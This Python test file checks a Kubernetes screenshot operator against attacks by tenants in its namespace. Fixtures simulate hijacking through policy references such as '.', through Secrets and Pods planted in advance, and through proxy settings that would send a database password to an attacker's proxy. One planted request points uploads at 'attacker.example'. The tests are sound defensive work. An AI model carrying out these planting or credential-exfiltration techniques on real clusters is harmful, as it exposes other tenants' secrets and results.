"""Attacks on the operator by whoever may write CaptureJobs, ScreenshotPolicies, Secrets or Pods
in a namespace it watches: each one tried against the real API server and `kubeshot operator`."""

from __future__ import annotations

import base64
import hashlib
import json
import time
from typing import Any

import kopf
import pytest

from kubeshot.kube import InvalidPath, KubeClient
from tests.cluster.operator.conftest import API, Cluster, Operator
from tests.support import wait_for

NETWORKING = "/apis/networking.k8s.io/v1"
FAKE_RESULT = json.dumps({"result": {"contentType": "image/png", "bytes": 3, "sha256": "f" * 64}})
CAPTURE_LABELS = {
    "app.kubernetes.io/name": "kubeshot",
    "app.kubernetes.io/component": "capture",
    "app.kubernetes.io/managed-by": "kubeshot-operator",
}


def condition(job: dict[str, Any], type_: str) -> dict[str, Any]:
    found: dict[str, Any] = next(c for c in job["status"]["conditions"] if c["type"] == type_)
    return found


def request_of(cluster: Cluster, secret: str) -> dict[str, Any]:
    body = cluster.get("secrets", secret)
    assert body is not None, f"no Secret {secret}"
    found: dict[str, Any] = json.loads(base64.b64decode(body["data"]["request.json"]))
    return found


# --- 1. policyRef "." must not escape the namespace's policy ---------------------------------


@pytest.mark.parametrize("name", [".", "..", "Default", "a/b", ""])
def test_a_policy_ref_that_names_no_object_is_refused_by_the_api_server(
    operator: Operator, cluster: Cluster, name: str
) -> None:
    # The attack: GET …/screenshotpolicies/. is the list; its missing spec parsed as the
    # built-in defaults (any domain, every format) and no NetworkPolicy selected the pod.
    cluster.create_policy(
        features={"allowedFormats": ["png"]}, network={"allowedDomains": ["example.com"]}
    )
    job = {
        "apiVersion": "kubeshot.dev/v1alpha1",
        "kind": "CaptureJob",
        "metadata": {"name": "escape", "namespace": cluster.namespace},
        "spec": {"url": "http://10.0.0.1/", "format": "pdf", "policyRef": name},
    }
    status, body = cluster.cp.request("POST", cluster.path("capturejobs", group=API), job)
    assert status == 422, f"the API server took policyRef {name!r}: {body}"
    assert "spec.policyRef" in body["message"]
    time.sleep(1)
    assert cluster.capture_pods() == []


@pytest.mark.parametrize(
    "spec",
    [
        {"runtime": {"runtimeClassName": "."}},
        {"network": {"proxy": {"server": "http://p:3128", "credentialsSecretRef": {"name": ".."}}}},
    ],
)
def test_policies_naming_no_object_are_refused_by_the_api_server(
    cluster: Cluster, kubeshot_crds: list[str], spec: dict[str, Any]
) -> None:
    policy = {
        "apiVersion": "kubeshot.dev/v1alpha1",
        "kind": "ScreenshotPolicy",
        "metadata": {"name": "sneaky", "namespace": cluster.namespace},
        "spec": spec,
    }
    path = cluster.path("screenshotpolicies", group=API)
    status, body = cluster.cp.request("POST", path, policy)
    assert status == 422, body


async def test_the_client_never_takes_a_list_for_the_object_it_asked_for(
    cluster: Cluster, kubeshot_crds: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    cluster.create_policy(limits={"memory": "256Mi"})
    monkeypatch.setenv("KUBECONFIG", str(cluster.cp.kubeconfig))
    client = KubeClient(lambda: kopf.login_with_kubeconfig(settings=kopf.OperatorSettings()))
    policies = f"{API}/namespaces/{cluster.namespace}/screenshotpolicies"
    try:
        found = await client.get(f"{policies}/default")
        assert found["kind"] == "ScreenshotPolicy"
        for name in (".", "..", "", "%2E"):
            # The API server answers …/screenshotpolicies/. (normalised to the collection) with
            # a ScreenshotPolicyList: refused before it is sent, never parsed as a policy.
            with pytest.raises(InvalidPath):
                await client.get(f"{policies}/{name}")
        listing = await client.get(policies)
        assert listing["kind"] == "ScreenshotPolicyList"
        async with client.stream(policies, {"watch": "1", "timeoutSeconds": "5"}) as events:
            async for event in events:  # each event's object is checked to be a policy
                assert (event["type"], event["object"]["kind"]) == ("ADDED", "ScreenshotPolicy")
                break
        with pytest.raises(InvalidPath):
            async with client.stream(f"{policies}/.", {"watch": "1"}):
                pass
    finally:
        await client.close()


def test_no_capture_pod_runs_before_its_network_policy_confines_it(
    operator: Operator, cluster: Cluster
) -> None:
    # The operator may not create NetworkPolicies here (a quota of none): the job waits, Queued,
    # with the reason; no pod runs unconfined. Once the NetworkPolicy can exist, the job starts.
    quota = {
        "apiVersion": "v1",
        "kind": "ResourceQuota",
        "metadata": {"name": "no-network-policies", "namespace": cluster.namespace},
        "spec": {"hard": {"count/networkpolicies.networking.k8s.io": "0"}},
    }
    code, body = cluster.cp.request("POST", cluster.path("resourcequotas"), quota)
    assert code == 201, body
    cluster.create_policy()
    cluster.create_job("confined", html="<p>x</p>")
    job = cluster.wait_phase("confined", "Queued", "Running", "Failed")
    assert job["status"]["phase"] == "Queued", job["status"]
    started = condition(job, "Started")
    assert started["reason"] == "NetworkPolicyPending"
    assert started["message"].startswith(
        "waiting for the NetworkPolicy of ScreenshotPolicy default: NetworkPolicy"
        " kubeshot-capture-default does not exist, and applying it failed:"
    )
    time.sleep(2)  # a few sweeps
    assert cluster.capture_pods() == []
    assert cluster.get("secrets", "confined-request") is None
    events = [
        e["reason"] for e in cluster.list("events") if e["involvedObject"]["name"] == "confined"
    ]
    assert "NetworkPolicyPending" in events

    cluster.kubectl("delete", "resourcequota", "no-network-policies", "-n", cluster.namespace)
    pod = cluster.wait_pod("confined-1", timeout=60)
    np = cluster.get("networkpolicies", "kubeshot-capture-default", NETWORKING)
    assert np is not None
    selector = np["spec"]["podSelector"]["matchLabels"]
    assert selector.items() <= pod["metadata"]["labels"].items()
    assert cluster.wait_phase("confined", "Running")["status"]["podName"] == "confined-1"


def test_a_network_policy_someone_narrowed_is_restored_before_the_next_pod(
    operator: Operator, cluster: Cluster
) -> None:
    cluster.create_policy()
    wait_for(
        lambda: cluster.get("networkpolicies", "kubeshot-capture-default", NETWORKING),
        what="the policy's NetworkPolicy",
    )
    # A tenant allowed to edit NetworkPolicies makes it select nothing (the pods run free).
    patch = {"spec": {"podSelector": {"matchLabels": {"kubeshot.dev/nothing": "x"}}}}
    cluster.kubectl(
        "patch", "networkpolicy", "kubeshot-capture-default", "-n", cluster.namespace,
        "--type=merge", "-p", json.dumps(patch),
    )  # fmt: skip
    cluster.create_job("after", html="<p>x</p>")
    pod = cluster.wait_pod("after-1")
    np = cluster.get("networkpolicies", "kubeshot-capture-default", NETWORKING)
    assert np is not None
    assert np["spec"]["podSelector"]["matchLabels"] == {
        "app.kubernetes.io/component": "capture",
        "kubeshot.dev/policy": "default",
    }
    assert np["spec"]["podSelector"]["matchLabels"].items() <= pod["metadata"]["labels"].items()


# --- 2. objects made before the job under its names are never adopted ---------------------------


def planted_secret(cluster: Cluster, name: str, token: str) -> dict[str, Any]:
    request = {
        "options": {"url": "http://10.0.0.1/"},
        "policy": {"network": {"blockPrivateNetworks": False}},
        "upload": {"url": "http://attacker.example/upload", "token": token},
    }
    body = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": name, "namespace": cluster.namespace},
        "stringData": {"request.json": json.dumps(request)},
    }
    code, created = cluster.cp.request("POST", cluster.path("secrets"), body)
    assert code == 201, created
    return dict(created)


def test_a_request_secret_made_before_the_job_is_never_the_jobs(
    operator: Operator, cluster: Cluster
) -> None:
    cluster.create_policy()
    token = "attacker-" + "t" * 40
    planted = planted_secret(cluster, "victim-request", token)
    cluster.create_job("victim", html="<p>x</p>")
    job = cluster.wait_phase("victim", "Failed", "Succeeded")
    assert job["status"]["failure"] == {
        "reason": "InvalidSpec",
        "message": "a Secret named victim-request exists already and does not belong to this"
        " CaptureJob (its ownerReference is not this job): delete it, or create the CaptureJob"
        " under another name",
    }
    assert job["status"].get("uploadTokenSha256") != hashlib.sha256(token.encode()).hexdigest()
    time.sleep(1)
    assert cluster.capture_pods() == []
    kept = cluster.get("secrets", "victim-request")
    assert kept is not None
    assert kept["metadata"]["uid"] == planted["metadata"]["uid"]  # not ours to delete either


def test_a_pod_made_before_the_job_under_its_pod_name_is_never_its_attempt(
    operator: Operator, cluster: Cluster
) -> None:
    cluster.create_policy()
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": "victim-1",
            "namespace": cluster.namespace,
            "labels": CAPTURE_LABELS,
            "annotations": {"kubeshot.dev/job": "victim"},
        },
        "spec": {
            "restartPolicy": "Never",
            "securityContext": {"runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}},
            "containers": [
                {
                    "name": "capture",
                    "image": "attacker/fake-result",
                    "securityContext": {
                        "allowPrivilegeEscalation": False,
                        "capabilities": {"drop": ["ALL"]},
                        "runAsUser": 10001,
                    },
                }
            ],
        },
    }
    code, planted = cluster.cp.request("POST", cluster.path("pods"), pod)
    assert code == 201, planted
    cluster.create_job("victim", html="<p>x</p>")
    cluster.wait_phase("victim", "Running", "Failed", "Succeeded")
    # The planted pod "ends" with a result of its author's choosing.
    cluster.terminate("victim-1", 0, "Completed", FAKE_RESULT)
    job = cluster.wait_phase("victim", "Failed", "Succeeded")
    assert job["status"]["phase"] == "Failed", job["status"]
    assert job["status"]["failure"]["reason"] == "InvalidSpec"
    assert job["status"]["failure"]["message"].startswith("a Pod named victim-1 exists already")
    assert "result" not in job["status"]
    time.sleep(1)
    kept = cluster.get("pods", "victim-1")
    assert kept is not None
    assert kept["metadata"]["uid"] == planted["metadata"]["uid"]


# --- 3. proxy credentials only from Secrets that opted in ---------------------------------------


def test_proxy_credentials_come_only_from_a_secret_that_opted_in(
    operator: Operator, cluster: Cluster
) -> None:
    # Whoever writes a policy names a Secret of the namespace (here another app's database
    # password) and a proxy of their own: the operator must not send it there.
    secret = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": "db-credentials", "namespace": cluster.namespace},
        "stringData": {"username": "postgres", "password": "s3cret-db-password"},
    }
    code, body = cluster.cp.request("POST", cluster.path("secrets"), secret)
    assert code == 201, body
    proxy = {"server": "http://192.0.2.66:3128", "credentialsSecretRef": {"name": "db-credentials"}}
    cluster.create_policy(network={"proxy": proxy})
    cluster.create_job("exfiltrate", html="<p>x</p>")
    job = cluster.wait_phase("exfiltrate", "Failed", "Running", "Succeeded")
    assert job["status"]["phase"] == "Failed", job["status"]
    assert job["status"]["failure"] == {
        "reason": "InvalidSpec",
        "message": "proxy credentials Secret 'db-credentials' not found, or not labelled"
        ' kubeshot.dev/proxy-credentials: "true"',
    }
    assert cluster.get("secrets", "exfiltrate-request") is None
    assert cluster.capture_pods() == []

    # A Secret made for the proxy opts in with the label; then its credentials are handed over.
    cluster.kubectl(
        "label", "secret", "db-credentials", "kubeshot.dev/proxy-credentials=true",
        "-n", cluster.namespace,
    )  # fmt: skip
    cluster.create_job("proxied", html="<p>x</p>")
    cluster.wait_pod("proxied-1")
    assert request_of(cluster, "proxied-request")["proxy"] == {
        "server": "http://192.0.2.66:3128",
        "username": "postgres",
        "password": "s3cret-db-password",
    }
